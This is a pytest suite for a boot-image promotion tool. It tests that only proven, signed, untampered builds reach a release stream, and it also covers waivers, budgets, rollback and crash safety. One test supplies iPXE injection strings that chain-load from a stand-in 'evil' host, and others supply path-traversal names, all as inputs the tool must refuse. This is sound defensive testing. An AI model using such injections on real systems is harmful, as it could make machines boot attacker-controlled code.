"""Nothing is promoted that was not proven: each thing that may be missing or wrong is refused, and nothing changes."""

from __future__ import annotations

import json
import os
import random
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import pytest

from harness.core import digest, serialization
from harness.core.errors import Blame, BootproofError, HostError, UsageError
from harness.model.artifacts import load_artifacts
from harness.model.verdict import Finding, Outcome, RuntimeProfile, Verdict
from harness.promotion import attest
from harness.promotion.attest import NotVerified
from harness.promotion.promote import NotPromoted, promote, roll_back
from harness.promotion.published_tree import PublishedTree, read_pointer

from ..proven import NOW, PHASES, TRAITS, Proven, with_coverage


@pytest.fixture
def proven(tmp_path: Path) -> Proven:
    made = Proven(tmp_path)
    made.demand()
    return made


def everything(tree: PublishedTree) -> dict[str, str]:
    """All of a tree but its lock, by digest; a link by where it leads."""
    return {
        str(path.relative_to(tree.root)): os.readlink(path) if path.is_symlink() else digest.of_file(path)
        for path in sorted(tree.root.rglob("*"))
        if path.is_symlink() or (path.is_file() and path.name != ".lock")
    }


def why_not(proven: Proven, verdict: Verdict, version: str = "1") -> str:
    """What is refused, after it was seen that nothing has changed."""
    before = everything(proven.tree)
    with pytest.raises((NotPromoted, NotVerified)) as error:
        proven.promote(version, verdict)
    assert everything(proven.tree) == before
    return str(error.value)


def test_a_promotion_points_the_stream_to_the_build_with_a_script_and_a_history(proven: Proven) -> None:
    proven.promote("1")
    pointer = proven.promote("2")

    stream = proven.tree.root / "streams" / "site" / "stable"
    assert pointer == proven.tree.current("site", "stable")
    assert [entry.version for entry in proven.tree.history("site", "stable")] == ["1", "2"]
    assert json.loads(stream.with_suffix(".json").read_text())["stream"]["entry"]["version"] == "2"
    assert pointer.entry.artifacts in (stream / "boot.ipxe").read_text()
    assert len(list(stream.parent.glob(".generations/*"))) == 2  # the next promotion removes the older one
    assert {"artifacts", "attestations", "streams"} <= {path.name for path in proven.tree.root.iterdir()}


def test_the_published_build_is_not_promoted_again(proven: Proven) -> None:
    first = proven.promote()
    before = everything(proven.tree)

    assert proven.promote() == first
    assert everything(proven.tree) == before


def finding(finding_id: str = "unit-failed", blame: Blame = Blame.IMAGE, where: str = "here") -> Finding:
    return Finding(id=finding_id, what="something is wrong", where=where, blame=blame)


def failed(verdict: Verdict) -> Verdict:
    return replace(verdict, outcome=Outcome.FAILED, findings=(finding(),))


REFUSED: dict[str, tuple[Callable[[Verdict], Verdict], str]] = {
    "failed": (failed, "something is wrong [unit-failed]"),
    "inconclusive": (
        lambda verdict: replace(
            verdict, outcome=Outcome.INCONCLUSIVE, findings=(finding("host-error", Blame.HOST),)
        ),
        "the verdict is inconclusive",
    ),
    "not all ran": (lambda verdict: with_coverage(verdict, missing=("survival",)), "not proven: survival"),
    "too old": (
        lambda verdict: replace(verdict, started=(NOW - timedelta(days=31)).isoformat()), "31 days old, 30 are allowed",
    ),
    "in the future": (
        lambda verdict: replace(verdict, started=(NOW + timedelta(days=1)).isoformat()), "in the future",
    ),
    "no boot": (lambda verdict: replace(verdict, boots=()), "0 boots by direct became ready, 1 are required"),
    "another image": (lambda verdict: replace(verdict, image="other"), "about the image other, not site"),
    "other bytes": (
        lambda verdict: replace(verdict, digests={**verdict.digests, "artifacts": "1" * 64}),
        "about the artifacts 111111111111",
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED)
def test_a_verdict_that_is_not_good_enough_is_refused(proven: Proven, name: str) -> None:
    change, said = REFUSED[name]
    proven.promote("1")

    assert said in why_not(proven, change(proven.verdict(proven.artifacts("2"))), "2")


DEMANDED = {
    'checks = ["power-cuts"]': ("not proven: power-cuts", "--thorough"),
    'boot_paths = ["ipxe-bios"]': ("not proven: boot:ipxe-bios", "run pytest -n 8 --image site"),
    "power_cuts = 20000": ("0 states after power cuts were checked, 20000", "--thorough --power-cuts 20000"),
    "boots = 9": ("3 boots by direct became ready, 9", "--repeat 9"),
}


@pytest.mark.parametrize("demand", DEMANDED)
def test_what_a_policy_demands_more_is_named_with_the_command_that_proves_it(proven: Proven, demand: str) -> None:
    proven.demand(demand)

    said = why_not(proven, proven.verdict(proven.artifacts()))

    assert all(words in said for words in DEMANDED[demand]), said


NO_ORDERING = {"ordering": "systemd 252 does not accept drop-ins"}


@pytest.mark.parametrize(
    ("demand", "not_applicable", "said"),
    [
        ('checks = ["ordering"]', NO_ORDERING, "ordering is not applicable: systemd 252 does not accept drop-ins"),
        ("power_cuts = 20000", {"power-cuts": "it keeps nothing"}, "power-cuts is not applicable: it keeps nothing"),
    ],
)
def test_a_demanded_check_that_was_not_applicable_is_refused_with_its_reason_unless_the_stream_allows_it(
    proven: Proven, demand: str, not_applicable: dict[str, str], said: str
) -> None:
    verdict = with_coverage(proven.verdict(proven.artifacts()), not_applicable=not_applicable)
    (check,) = not_applicable
    proven.demand(demand)

    refused = why_not(proven, verdict)

    assert said in refused
    assert f'not_applicable = ["{check}"]' in refused
    assert len(refused.splitlines()) == 3, "nothing else is refused"
    proven.demand(f'{demand}\nnot_applicable = ["{check}"]')
    assert proven.promote(verdict=verdict).entry.version == "1"


def test_a_check_that_was_not_applicable_is_not_refused_if_no_policy_demands_it(proven: Proven) -> None:
    verdict = with_coverage(proven.verdict(proven.artifacts()), not_applicable=NO_ORDERING)

    assert proven.promote(verdict=verdict).entry.version == "1"


def test_a_check_that_is_allowed_to_be_not_applicable_must_pass_otherwise(proven: Proven) -> None:
    proven.demand('checks = ["ordering"]\nnot_applicable = ["ordering"]')
    verdict = proven.verdict(proven.artifacts())

    assert "not proven: ordering" in why_not(proven, verdict)
    assert "failed: ordering" in why_not(proven, with_coverage(verdict, failed=("ordering",)))


def test_an_attestation_has_what_is_not_applicable_neither_among_the_passed_nor_among_the_failed(
    proven: Proven,
) -> None:
    verdict = with_coverage(proven.verdict(proven.artifacts()), missing=("ssh",), not_applicable=NO_ORDERING)

    predicate = json.loads(attest.statement(verdict, proven.artifacts(), {}))["predicate"]

    assert (predicate["passedTests"], predicate["failedTests"]) == (["image", "boot:direct"], ["ssh"])
    assert predicate["verdict"]["coverage"]["not_applicable"] == NO_ORDERING


WAIVER = '[[streams.stable.waive]]\n{what}\nby = "ann"\nreason = "known"\nuntil = {until}\n'
UNIT_FAILED = 'finding = "unit-failed"'
TEST = "tests/image/test_x.py::test_x[site]"


def waiver(what: str = UNIT_FAILED, until: str = "2026-12-31") -> str:
    return WAIVER.format(what=what, until=until)


def with_failed(verdict: Verdict, *findings: Finding, checks: dict[str, tuple[str, ...]]) -> Verdict:
    """It failed, with these findings and these checks by the tests that failed."""
    verdict = replace(verdict, outcome=Outcome.FAILED, findings=findings)
    return with_coverage(verdict, failed=tuple(checks), failed_tests=checks)


def test_a_finding_is_waived_until_that_day_and_fails_from_then_on(proven: Proven) -> None:
    verdict = failed(proven.verdict(proven.artifacts()))
    proven.demand(waiver(until="2026-11-20"))
    assert "the waiver of unit-failed by ann ended on 2026-11-20" in why_not(proven, verdict)

    proven.demand(waiver(until="2026-11-21"))
    assert proven.promote("1", verdict).entry.version == "1"


def test_a_waiver_of_one_place_does_not_excuse_the_same_finding_elsewhere(proven: Proven) -> None:
    verdict = proven.verdict(proven.artifacts())
    both = replace(finding(where="machine, boot 1 (direct)"), places=("machine, boot 1 (ipxe-bios)",))
    proven.demand(waiver('finding = "unit-failed"\nwhere = "(direct)"'))
    assert "something is wrong [unit-failed]" in why_not(proven, with_failed(verdict, both, checks={}))

    proven.demand(waiver('finding = "unit-failed"\nwhere = "machine"'))
    assert proven.promote("1", with_failed(verdict, both, checks={})).entry.version == "1"


def test_a_check_is_waived_with_what_its_tests_found_and_nothing_else(proven: Proven) -> None:
    verdict = proven.verdict(proven.artifacts())
    other = finding("check-failed", where="tests/image/test_y.py::test_y[site]")
    proven.demand(waiver('check = "ssh"'))

    assert "test_y" in why_not(
        proven, with_failed(verdict, finding("check-failed", where=TEST), other, checks={"ssh": (TEST,)})
    )
    assert proven.promote(
        "1", with_failed(verdict, finding("check-failed", where=TEST), checks={"ssh": (TEST,)})
    ).entry.version == "1"  # fmt: skip


def test_a_waived_finding_excuses_no_check_that_failed_otherwise(proven: Proven) -> None:
    verdict = proven.verdict(proven.artifacts())
    proven.demand(waiver())

    said = why_not(proven, with_failed(verdict, finding(), checks={"survival": (TEST,), "identity": ()}))

    assert "failed: survival, identity" in said


def test_a_failed_test_is_waived_by_name_only(proven: Proven) -> None:
    proven.demand(waiver('finding = "check-failed"'))
    with pytest.raises(UsageError, match="every test that fails is a 'check-failed'; name the test"):
        proven.promote()

    proven.demand(waiver('finding = "check-failed"\nwhere = "test_x"'))
    verdict = with_failed(
        proven.verdict(proven.artifacts()), finding("check-failed", where=TEST), checks={"ssh": (TEST,)}
    )
    assert proven.promote("1", verdict).entry.version == "1"


def test_inconclusive_is_never_waived(proven: Proven) -> None:
    verdict = proven.verdict(proven.artifacts())
    proven.demand(waiver() + waiver('check = "survival"'))

    assert "inconclusive" in why_not(proven, replace(verdict, findings=(finding("unit-failed", Blame.HOST),)))
    assert "inconclusive" in why_not(proven, replace(verdict, outcome=Outcome.INCONCLUSIVE))
    assert "not proven: survival" in why_not(proven, with_coverage(verdict, missing=("survival",)))
    assert "not proven: anything" in why_not(proven, with_coverage(verdict, passed=()))


def test_a_flake_fails_unless_the_policy_allows_it_and_then_excuses_nothing_else(proven: Proven) -> None:
    second = TEST.replace("]", "-repeat~2]")
    flaky = finding("flake", where=TEST), finding("check-failed", where=second)
    verdict = with_failed(proven.verdict(proven.artifacts()), *flaky, checks={"services": (second,)})
    verdict = with_coverage(verdict, flaky_tests=(second,))
    assert "[flake]" in why_not(proven, verdict)

    proven.demand('flakes = "allow"')
    panic = replace(verdict, findings=(*flaky, finding("kernel-panic", where=second)))
    assert "[kernel-panic]" in why_not(proven, panic)
    assert proven.promote("1", verdict).entry.version == "1"


def test_boots_of_earlier_runs_and_the_same_boot_twice_do_not_count(proven: Proven) -> None:
    verdict = proven.verdict(proven.artifacts())
    proven.demand("boots = 3")

    earlier = tuple(replace(boot, run="/runs/earlier") for boot in verdict.boots)
    assert "0 boots by direct became ready" in why_not(proven, replace(verdict, boots=earlier))
    assert "1 boots by direct became ready" in why_not(proven, replace(verdict, boots=verdict.boots[:1] * 3))


def test_the_published_build_is_refused_with_a_worse_verdict(proven: Proven) -> None:
    proven.promote("1")

    assert "something is wrong" in why_not(proven, failed(proven.verdict(proven.artifacts())))


def traits(**changes: object) -> RuntimeProfile:
    return replace(TRAITS, **changes)  # type: ignore[arg-type]


BUDGETS: dict[str, tuple[Callable[[Verdict], Verdict], str]] = {
    "boot_percent = 10": (
        lambda verdict: replace(
            verdict,
            boots=tuple(
                replace(boot, phases={**boot.phases, "initrd": PHASES["initrd"] * 1.5}) for boot in verdict.boots
            ),
        ),
        "over budget: initrd by direct, 30.0 s instead of",
    ),
    "boot_idle_s = 5": (
        lambda verdict: replace(verdict, boots=tuple(replace(boot, idle_s=9.0) for boot in verdict.boots)),
        "over budget: idle CPUs in boots by direct, 9.0 s instead of 1.5",
    ),
    "memory_percent = 10": (
        lambda verdict: replace(verdict, boots=tuple(replace(boot, memory_mib=400) for boot in verdict.boots)),
        "over budget: memory when idle",
    ),
    "sockets = 0": (
        lambda verdict: replace(verdict, runtime_profile=traits(sockets=("tcp 0.0.0.0:22 sshd", "tcp *:80 x"))),
        "over budget: sockets, 1 more; 0 more is allowed",
    ),
}


@pytest.mark.parametrize("budget", BUDGETS)
def test_more_than_the_published_build_has_is_over_budget(proven: Proven, budget: str) -> None:
    change, said = BUDGETS[budget]
    proven.demand(f"budget = {{ {budget} }}")
    proven.promote("1")
    verdict = proven.verdict(proven.artifacts("2"))

    assert said in why_not(proven, change(verdict), "2")
    assert proven.promote("2", verdict).entry.version == "2"


def test_waits_within_the_budget_and_those_that_nobody_measured_refuse_nothing(proven: Proven) -> None:
    def with_idle(version: str, idle_s: float | None) -> Verdict:
        verdict = proven.verdict(proven.artifacts(version))
        return replace(verdict, boots=tuple(replace(boot, idle_s=idle_s) for boot in verdict.boots))

    proven.demand("budget = { boot_idle_s = 5 }")
    proven.promote("1", with_idle("1", None))
    assert proven.promote("2", with_idle("2", 9.0)).entry.version == "2"
    assert proven.promote("3", with_idle("3", 14.0)).entry.version == "3"
    assert "0 boots by direct with known idle time cannot be compared with the published build's 3" in why_not(
        proven, with_idle("4", None), "4"
    )


def test_a_size_and_a_number_of_packages_are_over_budget(proven: Proven) -> None:
    proven.demand("budget = { size_percent = 5, packages = 2 }")
    proven.promote("1")
    larger = proven.artifacts("2", rootfs=b"root" * 1100, packages=6)

    said = why_not(proven, proven.verdict(larger), "2")

    assert "over budget: rootfs.squashfs, +10.0%; 5 % is allowed" in said
    assert "over budget: packages, 3 more; 2 more is allowed" in said


def test_noise_is_not_over_budget_and_too_few_boots_cannot_be_compared(proven: Proven) -> None:
    proven.demand("budget = { boot_percent = 10 }")
    proven.promote("1")
    draw = random.Random(1)
    noisy = proven.verdict(proven.artifacts("2"), boots=5)
    noisy = replace(
        noisy,
        boots=tuple(
            replace(boot, phases={phase: seconds * draw.uniform(0.9, 1.3) for phase, seconds in PHASES.items()})
            for boot in noisy.boots
        ),
    )
    assert "3 of each are needed" in why_not(proven, proven.verdict(proven.artifacts("2"), boots=1), "2")
    assert proven.promote("2", noisy).entry.version == "2"


# Keys and signatures


def test_a_key_that_is_not_trusted_counts_for_nothing(proven: Proven) -> None:
    artifacts = proven.artifacts()
    proof = proven.proof(artifacts, proven.verdict(artifacts), key="stranger")

    with pytest.raises(NotVerified, match=r"not signed by a trusted key \(ci\)"):
        promote(proven.tree, "site", "stable", artifacts, [proof], proven.promoter())


def test_a_policy_that_is_not_signed_or_was_changed_is_refused(proven: Proven) -> None:
    proven.policy.write_text(proven.policy.read_text() + "max_age_days = 999\n")
    with pytest.raises(NotVerified, match=r"policy.toml was changed after it was signed; run bootproof attest sign"):
        proven.promote()

    proven.policy.with_name("policy.toml.sig").unlink()
    with pytest.raises(NotVerified, match=r"policy.toml is not signed"):
        proven.promote()


@pytest.mark.parametrize(
    ("demand", "said"),
    [
        ('checks = ["power-cut"]', "streams.stable.checks: 'power-cut' is not a check; did you mean power-cuts?"),
        ('not_applicable = ["orderin"]', "streams.stable.not_applicable: 'orderin' is not a check; did you mean order"),
        ("boot = 3", "streams.stable.boot: is not a known key; did you mean boots?"),
        ("power_cuts = -1", "streams.stable.power_cuts: -1 is not valid; for example power_cuts = 20000, a whole"),
        ("max_age_days = 999999999", "streams.stable.max_age_days: 999999999 is not valid"),
        ('flakes = "retry"', "streams.stable.flakes: 'retry' is not a rule for flakes; known: fail, allow"),
        ("budget = 3", "streams.stable.budget: 3 is not valid; for example budget = …, a table"),
        ("waive = [3]", "streams.stable.waive[0]: is not a table"),
        (waiver(until='"soon"'), "waive[0].until: 'soon' is not valid; for example until = 2026-12-31, without quotes"),
        (waiver().replace('reason = "known"\n', ""), "streams.stable.waive[0].reason: is missing; for example"),
        (waiver().replace('"ann"', '" "'), "streams.stable.waive[0].by: ' ' is not valid; write a text"),
        (waiver() + waiver("check = 'shs'"), "streams.stable.waive[1].check: 'shs' is not a check"),
        (waiver(""), "streams.stable.waive[0].finding: a waiver is of one finding or of one check"),
        ("budget = { boot = 3 }", "streams.stable.budget.boot: is not a known key; known: boot_percent"),
        ("[keys2]", "keys2: is not a known key; did you mean keys?"),
        ("= 3", "syntax: "),
    ],
)
def test_a_policy_with_a_mistake_is_refused_in_a_sentence(proven: Proven, demand: str, said: str) -> None:
    proven.demand(demand)

    with pytest.raises(UsageError) as error:
        proven.promote()
    assert said in str(error.value)
    assert "\n" not in str(error.value)


def test_an_invalid_key_is_refused_in_a_sentence(tmp_path: Path) -> None:
    (tmp_path / "text").write_text("x")
    for given in (str(tmp_path / "none"), str(tmp_path / "text")):
        with pytest.raises(UsageError):
            attest.read_signer(given)
        with pytest.raises(UsageError):
            attest.read_public(given)
    attest.make_key(tmp_path / "key")
    with pytest.raises(UsageError, match="keys are never overwritten"):
        attest.make_key(tmp_path / "key")
    assert (tmp_path / "key").stat().st_mode & 0o777 == 0o600
    assert attest.read_signer(None, {attest.KEY_VARIABLE: (tmp_path / "key").read_text()}) is not None


# Tampering


def flip(path: Path, draw: random.Random) -> None:
    path.chmod(0o644)
    content = bytearray(path.read_bytes())
    at = draw.randrange(len(content))
    content[at] ^= 1 << draw.randrange(8)
    path.write_bytes(content)


@pytest.mark.parametrize("seed", range(60))
def test_a_flipped_bit_anywhere_is_refused(proven: Proven, seed: int) -> None:
    """In the artifacts, the manifest, the attestation, the policy, its signature, or the published tree."""
    draw = random.Random(seed)
    proven.promote("1")
    artifacts = proven.artifacts("2")
    proof = proven.proof(artifacts, proven.verdict(artifacts))
    loose = proven.folder / "attestation.json"
    loose.write_bytes(proof.attestation)
    stream = proven.tree.root / "streams" / "site" / "stable"
    files = [*artifacts.folder.iterdir(), loose, proven.policy, proven.policy.with_name("policy.toml.sig")]
    files += [stream / "stream.json", stream / "history.jsonl", stream / "boot.ipxe"]
    flip(files[seed % len(files)], draw)
    spoilt = replace(proof, attestation=loose.read_bytes())

    with pytest.raises(BootproofError):
        promote(proven.tree, "site", "stable", artifacts, [spoilt], proven.promoter())
    assert os.readlink(stream) == ".generations/stable-1"


def test_names_and_scripts_lead_nowhere(proven: Proven) -> None:
    """From a manifest into the tree, from a version into iPXE, from a pointer into paths."""
    for changes, said in (
        ({"version": "1\nchain http://evil/x"}, "contain iPXE syntax"),
        ({"kernel_arguments": ("quiet", "||", "chain", "http://evil")}, "contain iPXE syntax"),
    ):
        shutil.rmtree(proven.artifacts().folder)
        folder = proven.artifacts().folder
        serialization.write(folder / "manifest.json", replace(load_artifacts(folder).manifest, **changes))
        with pytest.raises(NotVerified, match=said):
            proven.promote("1", proven.verdict(load_artifacts(folder)))

    manifest = load_artifacts(proven.artifacts("2").folder).manifest
    files = {**manifest.files, "../../streams/site/beta.json": manifest.files["vmlinuz"]}
    serialization.write(proven.artifacts("2").folder / "manifest.json", replace(manifest, files=files))
    with pytest.raises(UsageError, match="not a valid name of a file"):
        load_artifacts(proven.folder / "artifacts-2")


def test_a_pointer_from_elsewhere_is_believed_only_as_it_was_written(proven: Proven) -> None:
    proven.promote("1")
    text = (proven.tree.root / "streams" / "site" / "stable.json").read_bytes()
    assert read_pointer(text, "there").entry.version == "1"

    plain = json.loads(text)
    plain["stream"]["entry"]["attestation"] = "../../../escaped"
    plain["sha256"] = digest.of_value(plain["stream"])
    for spoilt in (json.dumps(plain, indent=2).encode() + b"\n", b"[" * 200_000, b'{"stream": 3}', text[:-1]):
        with pytest.raises(NotVerified, match="was changed by hand, or sent in part"):
            read_pointer(spoilt, "there")


def test_a_key_may_be_revoked_and_the_stream_continues(proven: Proven) -> None:
    proven.promote("1")
    proven.policy.write_text(proven.policy.read_text().replace(proven.public("ci"), proven.public("ci2")))
    attest.sign_file(proven.policy, attest.read_signer(str(proven.key("keeper"))))
    artifacts = proven.artifacts("2")

    proof = proven.proof(artifacts, proven.verdict(artifacts), key="ci2")
    assert promote(proven.tree, "site", "stable", artifacts, [proof], proven.promoter()).entry.version == "2"


# The tree


def test_a_rollback_restores_the_previous_build_and_verifies_its_bytes_again(proven: Proven) -> None:
    for version in ("1", "2", "3"):
        proven.promote(version)

    assert roll_back(proven.tree, "site", "stable", proven.promoter()).entry.version == "2"
    assert roll_back(proven.tree, "site", "stable", proven.promoter()).entry.version == "1"
    with pytest.raises(UsageError, match="it pointed to"):
        roll_back(proven.tree, "site", "stable", proven.promoter())
    two = proven.artifacts("2").digest
    assert roll_back(proven.tree, "site", "stable", proven.promoter(), to=two[:8]).entry.version == "2"
    one = proven.artifacts("1").digest
    assert roll_back(proven.tree, "site", "stable", proven.promoter(), to=one[:8]).entry.version == "1"
    assert [entry.action for entry in proven.tree.history("site", "stable")] == ["promote"] * 3 + ["rollback"] * 4
    with pytest.raises(UsageError, match="never pointed to 'ffff'"):
        roll_back(proven.tree, "site", "stable", proven.promoter(), to="ffff")
    flip(proven.tree.artifacts(proven.artifacts("2").digest) / "rootfs.squashfs", random.Random(1))
    with pytest.raises(NotVerified, match="was changed after it was attested"):
        roll_back(proven.tree, "site", "stable", proven.promoter(), to=proven.artifacts("2").digest[:8])


def test_half_of_an_upload_is_refused(proven: Proven) -> None:
    place = proven.tree.artifacts(proven.artifacts().digest)
    place.mkdir(parents=True)
    shutil.copy(proven.artifacts().kernel, place)

    with pytest.raises(NotVerified, match="is missing; restore that folder"):
        proven.promote()
    assert proven.tree.current("site", "stable") is None


def test_two_promotions_at_once_are_one(proven: Proven) -> None:
    with proven.tree.locked(), pytest.raises(HostError, match="another promotion is running"):
        proven.promote()


def test_a_clock_that_went_back_is_refused(proven: Proven) -> None:
    proven.promote("1", at=NOW + timedelta(days=2))

    with pytest.raises(NotVerified, match="set this host's clock"):
        proven.promote("2", at=NOW)


def test_a_target_that_cannot_be_written_is_the_hosts_fault(proven: Proven) -> None:
    artifacts = proven.artifacts()
    proof = proven.proof(artifacts, proven.verdict(artifacts))

    with pytest.raises(HostError, match="/proc/images cannot be written"):  # not even by root
        promote(PublishedTree(Path("/proc/images")), "site", "stable", artifacts, [proof], proven.promoter())


@pytest.mark.parametrize("name", ["../x", "", "a/b", ".hidden"])
def test_a_name_leads_nowhere_else(proven: Proven, name: str) -> None:
    with pytest.raises(UsageError, match="is not a valid name of an image or a stream"):
        proven.tree.current("site", name)


PROMOTES = """
import os, sys, tempfile
from pathlib import Path
sys.path.insert(0, {root!r})
from tests.harness.proven import Proven
with tempfile.TemporaryDirectory() as folder:  # imports all that a promotion needs
    first = Proven(Path(folder))
    first.demand()
    first.promote()
while line := sys.stdin.readline():
    child = os.fork()
    if not child:
        Proven(Path(line.rstrip())).promote("2")
        os._exit(0)
    print(child, flush=True)
    sys.stdin.readline()  # until the test has killed it: a child that ended by itself keeps its id
    os.waitpid(child, 0)
    print("ended", flush=True)
"""


@pytest.fixture(scope="module")
def promotes() -> Iterator[subprocess.Popen[str]]:
    """Forks a process that promotes version 2 of the folder in each line; prints its id, and "ended" after it."""
    program = PROMOTES.format(root=str(Path(__file__).parents[3]))
    argv = [sys.executable, "-c", program]
    with subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as server:
        yield server
        server.kill()


@pytest.mark.parametrize("seed", range(10))
def test_killed_at_any_instant_the_stream_points_to_the_old_or_the_new_build(
    proven: Proven, promotes: subprocess.Popen[str], seed: int
) -> None:
    proven.promote("1")
    proven.proof(proven.artifacts("2"), proven.verdict(proven.artifacts("2")))
    assert promotes.stdin
    assert promotes.stdout
    print(proven.folder, file=promotes.stdin, flush=True)
    child = int(promotes.stdout.readline())
    time.sleep(random.Random(seed).uniform(0, 0.1))
    os.kill(child, signal.SIGKILL)
    print(file=promotes.stdin, flush=True)
    assert promotes.stdout.readline() == "ended\n"

    versions = [entry.version for entry in proven.tree.history("site", "stable")]
    current = proven.tree.current("site", "stable")
    assert current is not None
    assert versions in (["1"], ["1", "2"])
    assert current.entry.version == versions[-1]
    assert proven.promote("2").entry.version == "2"
    assert not list(proven.tree.root.rglob(".new-*"))
